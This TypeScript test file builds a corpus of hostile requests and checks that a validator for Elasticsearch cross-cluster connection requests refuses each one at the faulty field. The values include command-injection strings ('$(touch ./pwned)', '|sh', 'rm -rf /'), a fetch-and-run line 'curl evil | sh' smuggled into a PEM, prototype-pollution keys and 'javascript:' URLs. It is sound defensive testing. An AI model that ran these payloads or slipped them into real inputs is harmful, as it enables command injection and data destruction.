/**
 * The bad-input proof: a corpus of hostile and invalid requests, each one valid request with one thing wrong, each
 * refused by validateConnectRequest (never thrown) with a problem at the field that is wrong. The CLI, the client and
 * the workflow all validate with this one function.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { LIMITS, validateConnectRequest } from '../../src/contract/request';
import { bases, parsePath, setAt, type BaseName } from './requests';

interface Case {
  name: string;
  base: BaseName;
  /** The request as JSON text (prototype-pollution keys survive only that way), or a change to a base. */
  build: (r: Record<string, any>) => Record<string, any> | string;
  /** The problem path expected; `prefix` accepts paths below it (a limit crossed inside a value). */
  path: string;
  prefix?: boolean;
  /** Text the message must contain (a limit, a bound). */
  message?: RegExp;
}

const cases: Case[] = [];
/** A case that sets one field of a base to `value`. */
function put(name: string, base: BaseName, path: string, value: unknown, extra: Partial<Case> = {}) {
  cases.push({
    name,
    base,
    build: (r) => {
      setAt(r, parsePath(path), value);
      return r;
    },
    path,
    ...extra,
  });
}

// ---- shell metacharacters, in every string that reaches instructions, commands or URL paths ------------------------
const SHELL = {
  'command substitution': '$(touch ./pwned)',
  backticks: '`touch ./pwned`',
  semicolon: ';touch ./pwned',
  pipe: '|sh',
  'and-and': '&&id',
  'single quote': "'x",
  'double quote': '"x',
  redirect: '>/tmp/x',
  newline: '\ntouch ./pwned',
  space: ' x',
};
const shellFields: [BaseName, string, (payload: string) => string][] = [
  ['apiKeyPrivate', '$.remote.serverName', (p) => `es.example${p}`],
  ['apiKeyPrivate', '$.remote.proxyAddress', (p) => `es.example${p}:9443`],
  ['tls', '$.remote.nodeNames[0]', (p) => `es-node-1${p}`],
  ['apiKeyPublic', '$.roles[0].name', (p) => `remote-search${p}`],
  ['apiKeyPublic', '$.users[0].username', (p) => `cross-search-user${p}`],
  ['apiKeyPublic', '$.alias', (p) => `onprem${p}`],
  ['apiKeyPublic', '$.access.search[0].names[0]', (p) => `logs-*${p}`],
  ['apiKeyPublic', '$.verify.searchIndex', (p) => `logs-*${p}`],
  ['apiKeyPublic', '$.roles[0].remoteIndices[0].privileges[0]', (p) => `read${p}`],
  ['sandbox', '$.local.refId', (p) => `main${p}`],
];
/**
 * Elasticsearch allows `&` and `'` in index names, and index names never reach a command line (only JSON request bodies
 * and encoded URL paths), so the grammar keeps them: those two payloads are not cases for index fields.
 */
const INDEX_FIELDS_ALLOW = new Set(['and-and', 'single quote']);
for (const [base, path, make] of shellFields) {
  for (const [what, payload] of Object.entries(SHELL)) {
    if (/names\[0\]$|searchIndex$/.test(path) && INDEX_FIELDS_ALLOW.has(what)) continue;
    put(`${path}: ${what}`, base, path, make(payload));
  }
}
put('serverName: the issue report', 'apiKeyPrivate', '$.remote.serverName', 'es.example$(touch ./pwned)');

// ---- "." and "..": URL path segments, directory names ---------------------------------------------------------------
for (const dots of ['.', '..']) {
  put(`role name ${dots}`, 'apiKeyPublic', '$.roles[0].name', dots, { message: /"\." or "\.\."/ });
  put(`username ${dots}`, 'apiKeyPublic', '$.users[0].username', dots, { message: /"\." or "\.\."/ });
  put(`node name ${dots}`, 'tls', '$.remote.nodeNames[0]', dots);
  put(`access index ${dots}`, 'apiKeyPublic', '$.access.search[0].names[0]', dots);
  put(`verify.searchIndex ${dots}`, 'apiKeyPublic', '$.verify.searchIndex', dots);
  put(`privilege index ${dots}`, 'apiKeyPublic', '$.roles[0].remoteIndices[0].names[0]', dots);
}
put('reserved role name', 'apiKeyPublic', '$.roles[0].name', 'superuser', { message: /reserves/ });
put('reserved username', 'apiKeyPublic', '$.users[0].username', 'elastic', { message: /reserves/ });
put('node name starting with -', 'tls', '$.remote.nodeNames[0]', '-rf');
put('refId ..', 'sandbox', '$.local.refId', '..');

// ---- oversize strings ------------------------------------------------------------------------------------------------
const label = (n: number) => 'a'.repeat(n);
put(
  'serverName 254 characters',
  'apiKeyPrivate',
  '$.remote.serverName',
  `${label(63)}.${label(63)}.${label(63)}.${label(61)}x`,
);
put('serverName label of 64', 'apiKeyPrivate', '$.remote.serverName', `${label(64)}.example`);
put('role name 508', 'apiKeyPublic', '$.roles[0].name', label(508), { message: /507/ });
put('username 508', 'apiKeyPublic', '$.users[0].username', label(508), { message: /507/ });
put('index name 256 bytes', 'apiKeyPublic', '$.access.search[0].names[0]', label(256), { message: /255 bytes/ });
put('index name 128 two-byte characters', 'apiKeyPublic', '$.access.search[0].names[0]', 'é'.repeat(128), {
  message: /255 bytes/,
});
put('URL 2049', 'apiKeyPrivate', '$.remote.elasticsearch.url', `https://es.example/${label(2030)}`, {
  message: /2048/,
});
put(
  'PEM 64 001',
  'apiKeyPrivate',
  '$.remote.ca.pem',
  `-----BEGIN CERTIFICATE-----\n${label(64_000)}\n-----END CERTIFICATE-----`,
  {
    message: /64000/,
  },
);
put('fullName 1001', 'apiKeyPublic', '$.users[0].fullName', label(1001), { message: /1000/ });
put('email 255', 'apiKeyPublic', '$.users[0].email', `${label(245)}@x.example`, { message: /254/ });
put('node name 252', 'tls', '$.remote.nodeNames[0]', label(252), { message: /251/ });
put('privilege 256', 'apiKeyPublic', '$.roles[0].remoteIndices[0].privileges[0]', label(256), { message: /255/ });
put('refId 129', 'sandbox', '$.local.refId', label(129), { message: /128/ });
put('secret name 129', 'apiKeyPublic', '$.users[0].passwordSecret', `A${label(128)}`);
put(
  'DLS query string over 16 KB',
  'apiKeyPublic',
  '$.access.search[0].query',
  `{"match_all":{}}${' '.repeat(16_400)}`,
  {
    message: /16384/,
  },
);
put(
  'DLS query object over 16 KB',
  'apiKeyPublic',
  '$.access.search[0].query',
  { terms: { tag: Array(3000).fill('abcde') } },
  {
    message: /16384/,
  },
);
const tenMb = label(10 * 1024 * 1024);
put('10 MB serverName', 'apiKeyPrivate', '$.remote.serverName', tenMb, { message: /262144/ });
put('10 MB role name', 'apiKeyPublic', '$.roles[0].name', tenMb, { message: /262144/ });
put(
  '10 MB DLS query',
  'apiKeyPublic',
  '$.access.search[0].query',
  { match: { m: tenMb } },
  {
    message: /262144/,
    prefix: true,
  },
);

// ---- nesting ---------------------------------------------------------------------------------------------------------
function nested(depth: number, leaf: unknown = {}): unknown {
  let v: unknown = leaf;
  for (let i = 0; i < depth; i++) v = { bool: v };
  return v;
}
function nestedArrays(depth: number): unknown {
  return JSON.parse('['.repeat(depth) + ']'.repeat(depth));
}
put('DLS query 2000 deep', 'apiKeyPublic', '$.access.search[0].query', nested(2000), { message: /32 levels/ });
put('DLS query 33 deep', 'apiKeyPublic', '$.access.search[0].query', nested(33), { message: /32 levels/ });
put('role DLS query 2000 deep', 'apiKeyPublic', '$.roles[0].remoteIndices[0].query', nested(2000), {
  message: /32 levels/,
});
put(
  'DLS query of arrays 100 000 deep',
  'apiKeyPublic',
  '$.access.search[0].query',
  { a: nestedArrays(100_000) },
  {
    prefix: true,
  },
);
put('serverName 2000 deep', 'apiKeyPrivate', '$.remote.serverName', nested(2000));
put(
  'DLS query 200 000 deep (crosses the request limit)',
  'apiKeyPublic',
  '$.access.search[0].query',
  nestedArrays(200_000),
  {
    prefix: true,
    message: /262144/,
  },
);

// ---- huge arrays -----------------------------------------------------------------------------------------------------
const many = <T>(n: number, f: (i: number) => T) => Array.from({ length: n }, (_, i) => f(i));
put(
  '101 roles',
  'apiKeyPublic',
  '$.roles',
  many(101, (i) => ({ name: `r${i}` })),
  { message: /100/ },
);
put(
  '101 users',
  'apiKeyPublic',
  '$.users',
  many(101, (i) => ({ username: `u${i}`, roles: [], passwordSecret: 'P' })),
  {
    message: /100/,
  },
);
put(
  '101 access entries',
  'apiKeyPublic',
  '$.access.search',
  many(101, () => ({ names: ['logs-*'] })),
  { message: /100/ },
);
put(
  '101 index names',
  'apiKeyPublic',
  '$.access.search[0].names',
  many(101, (i) => `logs-${i}`),
  { message: /100/ },
);
put(
  '101 node names',
  'tls',
  '$.remote.nodeNames',
  many(101, (i) => `node-${i}`),
  { message: /100/ },
);
put(
  '101 privileges',
  'apiKeyPublic',
  '$.roles[0].remoteIndices[0].privileges',
  many(101, () => 'read'),
  {
    message: /100/,
  },
);
put(
  '1001 granted fields',
  'apiKeyPublic',
  '$.access.search[0].field_security',
  { grant: many(1001, (i) => `f${i}`) },
  { message: /1000/, path: '$.access.search[0].field_security.grant' },
);
put(
  '101 user roles',
  'apiKeyPublic',
  '$.users[0].roles',
  many(101, () => 'viewer'),
  { message: /100/ },
);
put(
  '100 000 index names',
  'apiKeyPublic',
  '$.access.search[0].names',
  many(100_000, () => 'logs'),
  {
    prefix: true,
    message: /262144/,
  },
);

// ---- durations -------------------------------------------------------------------------------------------------------
const durations: [string, string[], RegExp][] = [
  [
    '$.approvals.timeout',
    ['0s', '999ms', '31d', '99999999999999d', '1.5h', '-1m', '7 d', '', '7D', '1000000000ms'],
    /1s and 30d/,
  ],
  ['$.humanStepTimeout', ['0s', '500ms', '721h', '99999999999999d'], /1s and 30d/],
  ['$.verify.timeout', ['0s', '4s', '61m', '2h', '99999999999999d'], /5s and 1h/],
  ['$.keyExpiration', ['0s', '59m', '3651d', '99999999999999d', '90'], /1h and 3650d/],
];
for (const [path, values, bounds] of durations) {
  for (const v of values) put(`${path} ${JSON.stringify(v)}`, 'apiKeyPublic', path, v, { message: bounds });
}

// ---- types -----------------------------------------------------------------------------------------------------------
put('serverName a number', 'apiKeyPrivate', '$.remote.serverName', 1);
put('serverName null', 'apiKeyPrivate', '$.remote.serverName', null);
put('serverName an array', 'apiKeyPrivate', '$.remote.serverName', ['es.example']);
put('alias a number', 'apiKeyPublic', '$.alias', 5);
put('roles a string', 'apiKeyPublic', '$.roles', 'remote-search');
put('names a string', 'apiKeyPublic', '$.access.search[0].names', 'logs-*');
put('timeout a number', 'apiKeyPublic', '$.approvals.timeout', 7);
put('dryRun a string', 'apiKeyPublic', '$.dryRun', 'false');
put('proxySocketConnections huge', 'apiKeyPublic', '$.proxySocketConnections', 1e300);
put('DLS query a number', 'apiKeyPublic', '$.access.search[0].query', 42);

// ---- prototype pollution ---------------------------------------------------------------------------------------------
function json(name: string, base: BaseName, edit: (text: string) => string, path: string) {
  cases.push({ name, base, build: (r) => edit(JSON.stringify(r)), path });
}
json('__proto__ at the root', 'apiKeyPublic', (t) => t.replace('{', '{"__proto__":{"polluted":true},'), '$.__proto__');
json(
  '__proto__ in remote',
  'apiKeyPublic',
  (t) => t.replace('"remote":{', '"remote":{"__proto__":{"x":1},'),
  '$.remote.__proto__',
);
json(
  '__proto__ in a DLS query',
  'apiKeyPublic',
  (t) => t.replace('"names":["logs-*"]}', '"names":["logs-*"],"query":{"__proto__":{"isAdmin":true}}}'),
  '$.access.search[0].query.__proto__',
);
put('constructor at the root', 'apiKeyPublic', '$.constructor', { prototype: { polluted: true } });
put('constructor in local', 'apiKeyPublic', '$.local.constructor', 1);
put('prototype in remote', 'apiKeyPublic', '$.remote.prototype', {});

// ---- unicode tricks --------------------------------------------------------------------------------------------------
put('RTL override in serverName', 'apiKeyPrivate', '$.remote.serverName', 'es.\u202elpmaxe');
put('RTL override in role name', 'apiKeyPublic', '$.roles[0].name', 'admin\u202e');
put('RTL override in index name', 'apiKeyPublic', '$.access.search[0].names[0]', 'logs-\u202e*');
put('RTL override in fullName', 'apiKeyPublic', '$.users[0].fullName', 'Ann \u202eevil');
put('NUL in serverName', 'apiKeyPrivate', '$.remote.serverName', 'es.example\u0000.evil');
put('NUL in username', 'apiKeyPublic', '$.users[0].username', 'user\u0000');
put('newline in role name', 'apiKeyPublic', '$.roles[0].name', 'role\nname');
put('newline in node name', 'tls', '$.remote.nodeNames[0]', 'node\n1');
put('newline in fullName', 'apiKeyPublic', '$.users[0].fullName', 'Ann\nrm -rf /');
put('zero-width space in index name', 'apiKeyPublic', '$.access.search[0].names[0]', 'lo\u200bgs');
put('Cyrillic homoglyph in serverName', 'apiKeyPrivate', '$.remote.serverName', 'es.ex\u0430mple.com');
put('line separator in fullName', 'apiKeyPublic', '$.users[0].fullName', 'Ann\u2028Bob');

// ---- URLs ------------------------------------------------------------------------------------------------------------
for (const path of ['$.remote.elasticsearch.url', '$.local.cloud.endpoint', '$.local.elasticsearch.url']) {
  const base: BaseName = 'apiKeyPrivate';
  put(`${path} with credentials`, base, path, 'https://user:pw@es.example:9200', { message: /credentials/ });
  put(`${path} http://`, base, path, 'http://es.example:9200', { message: /https/ });
  put(`${path} javascript:`, base, path, 'javascript:alert(1)');
  put(`${path} with a query`, base, path, 'https://es.example:9200/?x=$(id)');
  put(`${path} with a space`, base, path, 'https://es.example :9200');
  put(`${path} with a tab (dropped by the URL parser)`, base, path, 'https://es.exa\tmple:9200');
}
put('URL ftp://', 'apiKeyPrivate', '$.remote.elasticsearch.url', 'ftp://es.example');
put('URL with a fragment', 'apiKeyPrivate', '$.remote.elasticsearch.url', 'https://es.example/#x');
put('URL with a user only', 'apiKeyPrivate', '$.local.cloud.endpoint', 'https://user@api.example');
put('URL host with underscore', 'apiKeyPrivate', '$.remote.elasticsearch.url', 'https://es_1.example');

// ---- host names and addresses ----------------------------------------------------------------------------------------
for (const host of [
  '-es.example',
  'es-.example',
  'es..example',
  'es.example.',
  'es_x.example',
  '999.1.1.1',
  '01.2.3.4',
]) {
  put(`serverName ${host}`, 'apiKeyPrivate', '$.remote.serverName', host);
  put(`proxyAddress ${host}:9443`, 'apiKeyPrivate', '$.remote.proxyAddress', `${host}:9443`);
}
for (const addr of [
  '[::g]:9443',
  '::1:9443',
  '[fe80::1%eth0]:9443',
  'es.example:0',
  'es.example:65536',
  'es.example:',
  'es.example',
]) {
  put(`proxyAddress ${addr}`, 'apiKeyPrivate', '$.remote.proxyAddress', addr);
}

// ---- index names and patterns ----------------------------------------------------------------------------------------
for (const name of [
  'Logs-*',
  'remote:logs-*',
  '_logs',
  '-logs',
  '+logs',
  'logs,metrics',
  'logs#1',
  'logs?',
  '/logs-.*/',
  'a\\b',
  'a<b',
  'a|b',
]) {
  put(`access index ${name}`, 'apiKeyPublic', '$.access.search[0].names[0]', name);
  put(`verify.searchIndex ${name}`, 'apiKeyPublic', '$.verify.searchIndex', name);
}
put('replication index with :', 'apiKeyPublic', '$.access.replication', [{ names: ['c:logs'] }], {
  path: '$.access.replication[0].names[0]',
});

// ---- PEM -------------------------------------------------------------------------------------------------------------
put(
  'PEM with a private key',
  'apiKeyPrivate',
  '$.remote.ca.pem',
  '-----BEGIN CERTIFICATE-----\nA\n-----END CERTIFICATE-----\n-----BEGIN PRIVATE KEY-----\nB\n-----END PRIVATE KEY-----',
);
put(
  'PEM closing the code block',
  'apiKeyPrivate',
  '$.remote.ca.pem',
  '-----BEGIN CERTIFICATE-----\nA\n-----END CERTIFICATE-----\n```\ncurl evil | sh\n```',
);
put('PEM that is not one', 'apiKeyPrivate', '$.remote.elasticsearch.caPem', 'hello');

describe('bad-input corpus: every hostile request is refused at its field', () => {
  it(`has at least 100 cases (${cases.length})`, () => {
    assert.ok(cases.length >= 100, String(cases.length));
    assert.equal(new Set(cases.map((c) => c.name)).size, cases.length, 'case names are unique');
  });

  it('every base request is valid as it is (the cases change one thing)', () => {
    for (const [name, base] of Object.entries(bases)) {
      const v = validateConnectRequest(base());
      assert.ok(v.ok, `${name}: ${JSON.stringify(!v.ok && v.problems)}`);
    }
  });

  for (const c of cases) {
    it(c.name, () => {
      const built = c.build(bases[c.base]());
      const input: unknown = typeof built === 'string' ? JSON.parse(built) : built;
      const t0 = performance.now();
      const v = validateConnectRequest(input); // never throws, whatever the input
      const ms = performance.now() - t0;
      assert.equal(v.ok, false, 'refused');
      if (v.ok) return;
      const hit = v.problems.find((p) =>
        c.prefix
          ? p.path === c.path || p.path.startsWith(`${c.path}.`) || p.path.startsWith(`${c.path}[`)
          : p.path === c.path,
      );
      assert.ok(hit, `a problem at ${c.path}; got ${JSON.stringify(v.problems).slice(0, 500)}`);
      assert.ok(hit.message.length > 0);
      if (c.message) assert.match(hit.message, c.message);
      assert.ok(v.problems.length <= LIMITS.problems + 1);
      assert.ok(ms < 1000, `validated in ${ms.toFixed(0)} ms`);
    });
  }

  it('a request with many problems lists at most LIMITS.problems of them, and counts the rest', () => {
    const r = bases.apiKeyPublic();
    r.users = many(100, (i) => ({ username: `u${i}`, roles: ['no-such-role', 'nor-this'], passwordSecret: 'P' }));
    const v = validateConnectRequest(r);
    assert.equal(v.ok, false);
    if (v.ok) return;
    assert.equal(v.problems.length, LIMITS.problems + 1);
    assert.match(v.problems.at(-1)!.message, /^and 100 more problems/);
  });

  it('a getter that throws is a problem, not an exception', () => {
    const r = bases.apiKeyPublic();
    Object.defineProperty(r.remote, 'serverName', {
      enumerable: true,
      get() {
        throw new RangeError('Maximum call stack size exceeded');
      },
    });
    const v = validateConnectRequest(r);
    assert.equal(v.ok, false);
    assert.match(JSON.stringify(!v.ok && v.problems), /could not be validated: Maximum call stack/);
  });

  it('a cyclic request (a client passing objects) is refused by the size limit', () => {
    const r = bases.apiKeyPublic();
    r.remote.self = r.remote;
    const v = validateConnectRequest(r);
    assert.equal(v.ok, false);
    assert.match(JSON.stringify(!v.ok && v.problems), /262144/);
  });
});
